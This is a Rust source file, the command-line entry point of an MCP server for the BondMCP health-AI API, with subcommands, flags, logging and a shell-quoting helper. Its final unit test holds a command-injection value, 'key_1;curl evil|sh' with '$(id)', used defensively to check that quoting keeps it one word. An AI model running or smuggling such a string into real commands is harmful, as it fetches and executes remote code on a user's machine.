//! The command line: one file per subcommand. This file has the shared flags and runs the commands.
#![allow(
    clippy::doc_markdown,
    reason = "doc comments of arguments are help texts, where backticks would show"
)]

mod audit;
mod demo;
mod error;
mod http;
mod install;
mod keys;
mod login;
mod logout;
mod printer;
mod process;
mod prompt;
mod register;
mod sandbox;
mod sandboxed;
mod serving;
mod status;
mod stdio;
mod stop;

use std::{borrow::Cow, path::PathBuf, pin::Pin, process::ExitCode};

use clap::{Parser, Subcommand};
use tracing::level_filters::LevelFilter;

pub use self::process::forbid_core_dumps;
use self::{error::Error, printer::Printer};
use crate::{
    account::Account,
    bondmcp::{Client, Timing},
    clock::Clock,
    config::{ConfigError, DEFAULT_BASE_URL, Flags, Profile, Settings, default_data_dir},
    redact::Redactor,
    telemetry::{self, LogFormat},
};

/// Connects BondMCP, a health-AI API, to Claude Desktop, Claude Code, Cursor or any other MCP host. You sign in once,
/// outside the chat; the agent gets results and never sees a password, a token or an API key.
#[derive(Debug, Parser)]
#[command(name = "bondmcp-server", version, max_term_width = 100, after_help = EXAMPLES)]
pub struct Cli {
    #[command(flatten)]
    global: Global,
    #[command(subcommand)]
    command: Command,
}

const EXAMPLES: &str = "\
First steps:
  bondmcp-server demo              offline end-to-end demo
  bondmcp-server login             sign in; the password is never echoed
  bondmcp-server stdio             what your MCP host runs; see mcp.json.example
  bondmcp-server stdio --sandbox   the same, with an embedded BondMCP, offline

Environment: BONDMCP_BASE_URL, BONDMCP_API_KEY, BONDMCP_EMAIL and BONDMCP_PASSWORD, BONDMCP_PROFILE,
BONDMCP_DATA_DIR, BONDMCP_LOG, BONDMCP_VAULT, BONDMCP_SEALING_KEY or BONDMCP_SEALING_KEY_FILE,
BONDMCP_HTTP_TOKEN. Flags override them. Exit codes: 0 success, 1 failure, 2 usage error.";

#[derive(Debug, clap::Args)]
#[command(next_help_heading = "Global options")]
struct Global {
    /// The local account, for people with several [default: default]
    #[arg(long, global = true, value_name = "NAME")]
    profile: Option<String>,
    /// The BondMCP API; https, or http on loopback
    #[arg(long, global = true, value_name = "URL", long_help = base_url_help())]
    base_url: Option<String>,
    /// Where the vault is stored [default: the platform's data directory]
    #[arg(long, global = true, value_name = "DIR")]
    data_dir: Option<PathBuf>,
    /// Log level on stderr: off, error, warn, info, debug or trace [default: warn]
    #[arg(long, global = true, value_name = "LEVEL")]
    log: Option<LevelFilter>,
    /// Log format
    #[arg(long, global = true, value_enum, default_value_t)]
    log_format: LogFormat,
}

fn base_url_help() -> String {
    format!("The BondMCP API; https, or http on loopback [default: {DEFAULT_BASE_URL}]")
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Serve MCP over stdin and stdout; your MCP host runs this
    Stdio(stdio::Args),
    /// Serve MCP over streamable HTTP
    Http(http::Args),
    /// Add this server to Claude Desktop, Claude Code, Cursor and other MCP hosts
    Install(install::Install),
    /// Remove this server from MCP hosts
    Uninstall(install::Uninstall),
    /// Sign in to BondMCP
    Login(login::Args),
    /// Create a BondMCP account
    Register(register::Args),
    /// Sign out and delete the stored credentials
    Logout(logout::Args),
    /// Show who is signed in
    Status(status::Args),
    /// Show which tools were called, by whom and with which outcome
    Audit(audit::Args),
    /// Manage and use API keys
    #[command(subcommand)]
    Keys(keys::Command),
    /// Serve an embedded BondMCP API on loopback, for trying things out
    Sandbox(sandbox::Args),
    /// Run the offline end-to-end demo, with a real MCP client
    Demo(demo::Args),
}

/// The context of a command.
struct App {
    settings: Settings,
    printer: Printer,
    redactor: Redactor,
    clock: Clock,
}

/// The command's outcome. Boxed, since one future would otherwise contain those of all commands.
type Outcome = Pin<Box<dyn Future<Output = Result<(), Error>>>>;

impl Cli {
    /// Whether the command serves many clients concurrently. A single client's calls wait for the network rather than
    /// for a processor, and further threads cost memory in each host's process.
    #[must_use]
    pub fn serves_many(&self) -> bool {
        matches!(self.command, Command::Http(_) | Command::Sandbox(_))
    }

    /// Runs the command and returns the process's exit code.
    pub async fn run(self) -> ExitCode {
        let redactor = Redactor::default();
        let printer = Printer::new(redactor.clone());
        match self.start(redactor, printer.clone()).await {
            Ok(()) => ExitCode::SUCCESS,
            Err(Error::Child(code)) => code.into(),
            Err(Error::Cancelled) => {
                printer.print_err("Cancelled.");
                ExitCode::FAILURE
            }
            Err(Error::Usage(message)) => {
                printer.print_error(message);
                ExitCode::from(2)
            }
            Err(Error::Failed(error)) => {
                tracing::debug!(causes = format!("{error:#}"), "the command failed");
                printer.print_error(&error);
                ExitCode::FAILURE
            }
        }
    }

    async fn start(self, redactor: Redactor, printer: Printer) -> Result<(), Error> {
        telemetry::init(self.global.log_level()?, self.global.log_format, redactor.clone());
        let clock = Clock::system();
        let app = || {
            let settings = self.global.settings()?;
            Ok::<_, Error>(App { settings, printer: printer.clone(), redactor, clock: clock.clone() })
        };
        let outcome: Outcome = match self.command {
            Command::Stdio(args) => Box::pin(args.run(app()?)),
            Command::Http(args) => Box::pin(args.run(app()?)),
            Command::Install(args) => Box::pin(std::future::ready(args.run(&app()?))),
            Command::Uninstall(args) => Box::pin(std::future::ready(args.run(&app()?))),
            Command::Login(args) => Box::pin(args.run(app()?)),
            Command::Register(args) => Box::pin(args.run(app()?)),
            Command::Logout(args) => Box::pin(args.run(app()?)),
            Command::Status(args) => Box::pin(args.run(app()?)),
            Command::Audit(args) => Box::pin(std::future::ready(args.run(&app()?))),
            Command::Keys(command) => Box::pin(command.run(app()?)),
            // These two need neither a data directory nor anything from the environment.
            Command::Sandbox(args) => Box::pin(args.run(printer, clock)),
            Command::Demo(args) => Box::pin(args.run(printer, clock)),
        };
        outcome.await
    }
}

/// Prints an error that ends the process; returns the exit code.
#[must_use]
pub fn exit_with_error(message: impl std::fmt::Display) -> ExitCode {
    Printer::default().print_error(message);
    ExitCode::FAILURE
}

/// Prints a warning to the operator.
pub fn warn(message: impl std::fmt::Display) {
    Printer::default().print_err(format_args!("warning: {message}"));
}

impl Global {
    fn log_level(&self) -> Result<LevelFilter, Error> {
        match (self.log, std::env::var("BONDMCP_LOG")) {
            (Some(level), _) => Ok(level),
            (None, Ok(level)) if !level.is_empty() => level.parse().map_err(|_| {
                Error::Usage("BONDMCP_LOG must be off, error, warn, info, debug or trace".to_owned())
            }),
            _ => Ok(LevelFilter::WARN),
        }
    }

    fn settings(&self) -> Result<Settings, ConfigError> {
        let flags = Flags {
            base_url: self.base_url.clone(),
            profile: self.profile.clone(),
            data_dir: self.data_dir.clone(),
        };
        Settings::load(flags, default_data_dir(), |name| std::env::var_os(name))
    }
}

impl App {
    fn account(&self) -> Account {
        let client = Client::new(
            self.settings.base_url.clone(),
            self.redactor.clone(),
            self.clock.clone(),
            Timing::default(),
        );
        Account::new(&self.settings, self.command_line(), client, self.clock.clone(), self.redactor.clone())
    }

    /// Returns the command line that runs this program for the same account in a terminal.
    fn command_line(&self) -> String {
        let settings = &self.settings;
        let program = std::env::args_os().next().unwrap_or_else(|| env!("CARGO_PKG_NAME").into());
        let mut words = vec![shell_word(&program.to_string_lossy()).into_owned()];
        let mut flag =
            |name: &str, value: &str| words.extend([name.to_owned(), shell_word(value).into_owned()]);
        if settings.profile != Profile::default() {
            flag("--profile", settings.profile.as_str());
        }
        if settings.base_url.as_str() != DEFAULT_BASE_URL {
            flag("--base-url", settings.base_url.as_str());
        }
        if Some(&settings.data_dir) != default_data_dir().as_ref() {
            flag("--data-dir", &settings.data_dir.to_string_lossy());
        }
        words.join(" ")
    }
}

/// Checks for API key changes that an earlier process left unfinished, while the server is already answering.
fn reconcile_in_background(account: &Account) {
    let account = account.clone();
    tokio::spawn(async move {
        if let Err(error) = account.reconcile_once_used().await {
            tracing::info!(%error, "interrupted API key changes could not be checked");
        }
    });
}

/// Quotes `word` for a POSIX shell, for command lines that are offered for pasting.
fn shell_word(word: &str) -> Cow<'_, str> {
    // A word with a NUL cannot be passed to a shell.
    shlex::try_quote(word).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_id_that_holds_a_command_is_one_word_of_the_shell() {
        let id = "key_1;curl evil|sh #'$(id)`";
        assert_eq!(shlex::split(&format!("run {} --", shell_word(id))).unwrap(), ["run", id, "--"]);
        assert_eq!(shell_word("key_1"), "key_1");
    }
}
